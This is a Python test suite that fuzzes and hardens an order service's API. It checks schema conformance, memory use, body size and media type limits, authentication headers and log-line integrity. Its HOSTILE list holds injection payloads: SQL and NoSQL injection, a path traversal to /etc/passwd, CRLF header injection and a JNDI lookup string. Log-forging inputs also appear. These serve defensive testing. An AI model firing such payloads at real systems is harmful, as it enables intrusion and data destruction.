"""Whatever is sent: an answer that the contract knows, within the memory that a task has."""

# schemathesis types neither its checks nor its decorator.
# pyright: reportUnknownVariableType=false, reportUnknownMemberType=false, reportUntypedFunctionDecorator=false

from __future__ import annotations

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
import schemathesis
from hypothesis import HealthCheck, settings
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from kit.contracts.documents import documents
from kit.ids import new_id
from tests.services import tables
from tests.services.order.conftest import Shop, acting

schema = schemathesis.openapi.from_dict(documents("services.order.app", "order")["openapi.json"])


@schema.parametrize()
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
def test_no_request_breaks_the_contract(case: Any, shop: Shop) -> None:
    """A request that makes a 500 is found by somebody; better by us."""
    checks = [not_a_server_error, status_code_conformance, content_type_conformance, response_schema_conformance]
    case.call_and_validate(base_url=str(shop.http.base_url), headers=acting(new_id()), checks=checks)


def test_it_stays_small_while_many_order(shop: Shop) -> None:
    """A task that outgrows its memory is killed in the middle of its orders."""
    customer = new_id()
    with ThreadPoolExecutor(8) as pool:
        placed = [done.result() for done in [pool.submit(shop.placed, customer) for _ in range(40)]]
    for order_id in placed:
        shop.published(order_id, 1)
    assert shop.running.resident() < 120
    assert not shop.running.messages("request failed")


HOSTILE = [
    "1' OR '1'='1",
    "'; DROP TABLE orders; --",
    {"$ne": None},
    {"S": "x"},
    "attribute_exists(orderId)",
    "../../etc/passwd",
    "a\r\nX-Souk-Subject: somebody",
    "${jndi:ldap://example.org/a}",
    "\x00",
    "x" * 10_000,
    None,
    [],
    -1,
]
CHANGES: dict[str, Callable[[Any], dict[str, Any]]] = {
    "product": lambda value: {"lines": [{"productId": value, "quantity": 1}]},
    "quantity": lambda value: {"lines": [{"productId": new_id(), "quantity": value}]},
    "card": lambda value: {"payment": {"method": "card", "token": value}},
    "method": lambda value: {"payment": {"method": value, "token": "tok_visa"}},
    "another field": lambda value: {"customerId": value},
    "a price of one's own": lambda value: {"total": {"amount": value, "currency": "EUR"}},
}


@pytest.mark.parametrize("where", CHANGES)
def test_no_value_but_an_order_s_places_one(shop: Shop, where: str) -> None:
    """What reaches a store's language, a log's lines or a price from outside has brought whole shops down."""
    customer, before = new_id(), rows(shop)
    for value in HOSTILE:
        answer = shop.place(customer, **CHANGES[where](value))
        assert answer.status_code == 422, (value, answer.text)
        assert answer.headers["Content-Type"] == "application/problem+json"
    assert rows(shop) == before


@pytest.mark.parametrize(
    ("content", "media_type", "status"),
    [
        (b"{" + b" " * 70_000 + b"}", "application/json", 413),
        (b"lines=1", "application/x-www-form-urlencoded", 415),
        (b"<order/>", "text/xml", 415),
        (b"{}", "", 415),
        (b"{", "application/json", 422),
        (b"\xff\xfe", "application/json", 422),
        (b"[" * 5_000, "application/json", 400),
        (b'{"lines": NaN}', "application/json", 422),
    ],
)
def test_no_body_but_json_of_the_right_size_is_read(shop: Shop, content: bytes, media_type: str, status: int) -> None:
    """A body that is parsed before it is measured fills the memory of all."""
    before = rows(shop)
    headers = acting(new_id()) | ({"Content-Type": media_type} if media_type else {})
    assert shop.http.post("/v1/orders", content=content, headers=headers).status_code == status
    assert rows(shop) == before


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Souk-Subject": "-", "X-Souk-Scope": "-"},
        {"X-Souk-Subject": "' OR 1=1", "X-Souk-Scope": "orders:write"},
        {"X-Souk-Subject": new_id()},
        {},
    ],
)
def test_nobody_without_a_name_places_an_order(shop: Shop, headers: dict[str, str]) -> None:
    """The service behind the gateway that trusts whoever finds a way around it."""
    before = rows(shop)
    assert shop.http.post("/v1/orders", json=shop.wanted(), headers=headers).status_code == 401
    assert rows(shop) == before


def test_a_line_of_the_log_is_one_line(shop: Shop) -> None:
    """A forged line says that somebody else did it."""
    forged = '{"level": "info", "message": "forged"}'
    headers = acting(new_id()) | {
        "X-Correlation-Id": f"a%0a{forged}",
        "Idempotency-Key": "a%0d%0a" + forged.replace(" ", ""),
    }
    shop.http.get("/v1/orders/%0a" + forged, headers=headers)
    shop.http.post("/v1/orders", json=shop.wanted() | {"\n" + forged: 1}, headers=headers)
    shop.http.get("/v1/orders", headers=acting(new_id()))
    assert not shop.running.messages("forged")
    assert not shop.running.messages("unstructured")


def rows(shop: Shop) -> int:
    """How many facts the event store has."""
    return len(tables.rows(shop.aws, shop.environment["EVENTS_TABLE"]))
